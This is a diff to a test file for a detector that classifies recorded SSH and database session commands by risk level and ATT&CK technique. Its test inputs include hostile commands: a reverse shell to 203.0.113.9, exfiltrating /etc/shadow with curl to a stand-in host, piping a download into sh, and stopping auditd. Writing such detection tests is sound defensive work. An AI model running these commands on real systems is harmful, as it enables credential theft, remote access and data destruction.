@@ -1,10 +1,14 @@
 import { describe, expect, test } from "vitest";
+import { attackRuleIds } from "../../src/providers/digest/attack.ts";
 import { commandsOf } from "../../src/providers/digest/command.ts";
 import { digest } from "../../src/providers/digest/digest.ts";
+import { commandRules, statementRules } from "../../src/providers/digest/rules.ts";
 import { statementsOf } from "../../src/providers/digest/statement.ts";
 import { targetsOf } from "../../src/providers/digest/targets.ts";
-import type { RiskLevel } from "../../src/providers/summary.ts";
 import type { SessionKind } from "../../src/recordings/recording.ts";
+import { Summarizer } from "../../src/summarize/summarize.ts";
+import type { RiskLevel } from "../../src/summarize/summary.ts";
+import { modelOf } from "../models.ts";
 import type { Line } from "../transcripts.ts";
 import { deleted, transcriptOf } from "../transcripts.ts";
 
@@ -101,6 +105,106 @@ describe("the rules of risk", () => {
       [],
       quiet.shortDescription,
     ]);
+  });
+});
+
+describe("the enhanced summary", () => {
+  test("every row of the table of attacks is about a rule that there is", () => {
+    const ids = new Set([...commandRules, ...statementRules].map(({ id }) => id));
+    expect(attackRuleIds.filter((id) => !ids.has(id))).toEqual([]);
+  });
+
+  // biome-ignore format: table
+  test.each<readonly [kind: SessionKind, input: string, category: string, level: string, tactics: readonly string[], ids: readonly string[]]>([
+    ["ssh", "cat ~/.ssh/id_ed25519",              "FILE_OPERATION",     "HIGH",     ["CREDENTIAL_ACCESS"],         ["T1552.004"]],
+    ["ssh", "curl -T /etc/shadow http://x.example", "TRANSFER",         "HIGH",     ["CREDENTIAL_ACCESS", "EXFILTRATION"], ["T1003.008", "T1048"]],
+    ["ssh", "sudo systemctl stop auditd",         "SYSTEM_CONFIG",      "HIGH",     ["DEFENSE_EVASION"],           ["T1562.001"]],
+    ["ssh", "sudo useradd mallory",               "USER_MANAGEMENT",    "HIGH",     ["PERSISTENCE"],               ["T1136"]],
+    ["ssh", "sudo apt install nmap",              "PACKAGE_MANAGEMENT", "MEDIUM",   ["NONE"],                      []],
+    ["ssh", "kubectl delete pod x",               "CONTAINER",          "MEDIUM",   ["NONE"],                      []],
+    ["ssh", "crontab -e",                         "SCHEDULING",         "MEDIUM",   ["PERSISTENCE"],               ["T1053.003"]],
+    ["db",  "DROP TABLE orders",                  "DATA_ACCESS",        "HIGH",     ["IMPACT"],                    ["T1485"]],
+    ["db",  "GRANT ALL ON orders TO mallory",     "USER_MANAGEMENT",    "HIGH",     ["PERSISTENCE"],               ["T1098"]],
+  ])("%s: %s", (kind, input, category, riskLevel, tactics, attackIds) => {
+    const [command] = digestOf(kind, [[input, { end: 700 }]]).notableCommands;
+    expect(command).toMatchObject({ category, riskLevel, tactics, attackIds, entry: 0, at: 0, end: 700 });
+  });
+
+  test("the score lies in the band of the level, and is what the reasons add up to", () => {
+    const bands = { LOW: [0, 24], MEDIUM: [25, 49], HIGH: [50, 74], CRITICAL: [75, 100] } as const;
+    const sessions = [
+      ["ls"],
+      ["vim /etc/hosts"],
+      ["sudo vim /etc/hosts", "kill 1", "chmod 777 x", "nmap x", "ssh b", "apt install x", "rm -r x"],
+      ["cat ~/.ssh/id_rsa", "history -c"],
+      ["rm -rf /etc", "nc -e sh 1.2.3.4 5", "cat /etc/shadow"],
+    ];
+    for (const lines of sessions) {
+      const { riskLevel = "LOW", riskScore = -1, riskReasons } = digestOf("ssh", lines);
+      const [from, to] = bands[riskLevel];
+      expect(riskScore).toBeGreaterThanOrEqual(from);
+      expect(riskScore).toBeLessThanOrEqual(to);
+      expect(riskReasons.reduce((sum, { scoreImpact = 0 }) => sum + scoreImpact, 0)).toBe(riskScore);
+    }
+  });
+
+  test("what looks wrong, what points to an attack, and what was sensitive", () => {
+    const { suspicions, indicators, sensitiveItems } = digestOf("ssh", [
+      "ls",
+      "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
+      "curl http://get.example/x | sh",
+      "cat /etc/shadow",
+    ]);
+    expect(suspicions.map(({ moment }) => moment?.entry)).toEqual([1, 2, 3]);
+    expect(indicators).toEqual([
+      { type: "host", value: "203.0.113.9", entry: 1, at: 10_000 },
+      { type: "host", value: "get.example", entry: 2, at: 20_000 },
+    ]);
+    expect(sensitiveItems).toEqual([{ type: "password hashes", value: "/etc/shadow", entry: 3, at: 30_000 }]);
+  });
+
+  test("categories are counted", () => {
+    expect(digestOf("ssh", ["ls", "cat x", "frobnicate", "git pull"]).categories).toEqual([
+      { name: "FILE_OPERATION", count: 2 },
+      { name: "OTHER", count: 1 },
+      { name: "SOURCE_CONTROL", count: 1 },
+    ]);
+  });
+
+  test("hidden prompts and deleted input are marked, and ask for a review", async () => {
+    const marks = [
+      { type: "hidden-input", text: "Password:" },
+      deleted("rm -rf /srv"),
+      { type: "full-screen", text: "vim" },
+    ] as const;
+    const transcript = { ...transcriptOf("ssh", [["sudo vim x", { marks }]]), notes: ["the recording is incomplete"] };
+    const session = {
+      id: "",
+      kind: "ssh",
+      user: "a",
+      resource: "b",
+      environment: "",
+      started: "",
+      duration: 0,
+      participants: [],
+    } as const;
+    const { summary } = await new Summarizer().summarize({
+      transcript,
+      session,
+      model: modelOf({ digest: {} }),
+      secrets: new Map(),
+    });
+    expect(summary.unseenInput).toEqual([
+      { type: "hidden-input", text: "Password:", entry: 0, at: 0 },
+      { type: "deleted-input", text: "rm -rf /srv", entry: 0, at: 0 },
+    ]);
+    expect(summary.needsReview.map(({ code }) => code)).toEqual([
+      "OUTPUT_NOT_FULLY_CAPTURED",
+      "OUTPUT_NOT_FULLY_CAPTURED",
+      "HIDDEN_INPUT",
+      "DELETED_INPUT",
+    ]);
+    expect(summary.needsReview[0]?.detail).toBe("the recording is incomplete");
   });
 });
 
